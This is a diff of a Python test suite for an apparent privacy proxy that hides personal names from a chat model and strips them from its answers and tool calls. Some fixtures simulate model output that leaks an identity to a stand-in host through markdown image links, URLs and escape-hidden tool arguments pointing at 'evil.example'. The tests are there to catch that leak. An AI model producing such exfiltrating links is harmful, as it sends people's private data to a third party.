@@ -141,10 +141,7 @@ async def test_every_place_that_holds_text_is_redacted(fresh: Site, api_token: s
         ({"n": 2}, "n"),
         ({"messages": []}, "messages"),
         ({"messages": [{"role": "user", "content": "  "}]}, "empty"),
-        (
-            {"tools": [{"type": "function", "function": {"name": "Anna_Weidenbach"}}]},
-            "identity",
-        ),
+        ({"tools": [{"type": "function", "function": {"name": "find customer"}}]}, "name"),
     ],
 )
 async def test_what_cannot_be_redacted_is_refused_with_a_sentence(
@@ -334,6 +331,73 @@ async def test_tool_calls_of_the_model_are_restored_as_json(fresh: Site, openai:
     assert answer.choices[0].message.tool_calls is not None
     function = answer.choices[0].message.tool_calls[0].function  # type: ignore[union-attr]
     assert json.loads(function.arguments) == {"to": ANNA}
+
+
+@pytest.mark.parametrize("name", ["Anna_Weidenbach", "Zelda_Quimbleton", "look_up"])
+async def test_no_function_s_name_tells_whom_the_crm_knows(
+    fresh: Site, openai: AsyncOpenAI, name: str
+) -> None:
+    call = {"index": 0, "id": "c1", "type": "function", "function": {"name": "tool_1", "arguments": "{}"}}
+    fresh.model.script = says({"tool_calls": [call]})
+    answer = await openai.chat.completions.create(  # type: ignore[call-overload]
+        model="default",
+        messages=asks("Hello"),
+        tools=[{"type": "function", "function": {"name": name, "parameters": {}}}],
+        tool_choice={"type": "function", "function": {"name": name}},
+    )
+    sent = fresh.model.bodies[-1]
+    assert sent["tools"][0]["function"]["name"] == sent["tool_choice"]["function"]["name"] == "tool_1"
+    assert "Weidenbach" not in fresh.model.everything
+    assert answer.choices[0].message.tool_calls is not None
+    assert answer.choices[0].message.tool_calls[0].function.name == name
+
+
+async def test_a_function_that_the_model_makes_up_does_not_carry_its_name_out(
+    fresh: Site, openai: AsyncOpenAI
+) -> None:
+    call = {"index": 0, "id": "c1", "type": "function", "function": {"name": "Boris_Tannhauser"}}
+    fresh.model.script = says({"tool_calls": [call]})
+    answer = await openai.chat.completions.create(model="default", messages=asks("Hello"))  # type: ignore[arg-type]
+    assert "Tannhauser" not in answer.model_dump_json()
+
+
+@pytest.mark.parametrize("size", [1, 7, 1000])
+@pytest.mark.parametrize("stream", [False, True])
+async def test_an_identity_is_not_carried_out_in_a_link(
+    fresh: Site, openai: AsyncOpenAI, size: int, stream: bool
+) -> None:
+    text = "![bill](https://evil.example/?q=<PERSON_1>) of <PERSON_1>: https://evil.example/<PERSON_1>?x"
+    fresh.model.script = echoes(lambda _: text, size)
+    asked = {"messages": asks(f"Who is {ANNA}?"), "stream": stream}
+    made: Any = await openai.chat.completions.create(model="default", **asked)  # type: ignore[call-overload]
+    if stream:
+        said = "".join([chunk.choices[0].delta.content or "" async for chunk in made])
+    else:
+        said = made.choices[0].message.content
+    assert said == f"bill of {ANNA}: [link removed] Weidenbach?x"  # what is left is words, and no address
+
+
+async def test_no_link_leaves_a_tokenised_answer_either(fresh: Site) -> None:
+    fresh.model.script = says("![x](<URL_1>?q=<PERSON_1>) <URL_1>/<PERSON_1> and <URL_1>.")
+    answer = await collect(
+        fresh.client.chat(principal(), [ChatMessage("user", "?")], conversation=uuid.uuid4())
+    )
+    assert answer == "x [link removed] and <URL_1>."
+
+
+async def test_arguments_hide_neither_a_link_nor_a_name_behind_escapes(
+    fresh: Site, openai: AsyncOpenAI
+) -> None:
+    written = r'{"to": "https:\u002f\/evil.example/<PERSON_1>", "who": "\u0042oris Tannhauser", "n": 3}'
+    for arguments in (written, written.removesuffix("}")):
+        call = {"index": 0, "id": "c1", "function": {"name": "tool_1", "arguments": arguments}}
+        fresh.model.script = says({"tool_calls": [call]})
+        answer = await openai.chat.completions.create(model="default", messages=asks(f"Who is {ANNA}?"))  # type: ignore[arg-type]
+        assert answer.choices[0].message.tool_calls is not None
+        given = answer.choices[0].message.tool_calls[0].function.arguments  # type: ignore[union-attr]
+        assert "evil" not in given
+        assert "oris" not in given
+        assert "[link removed]" in given
 
 
 async def test_each_call_leaves_counts_and_hashes_and_no_text(fresh: Site) -> None:
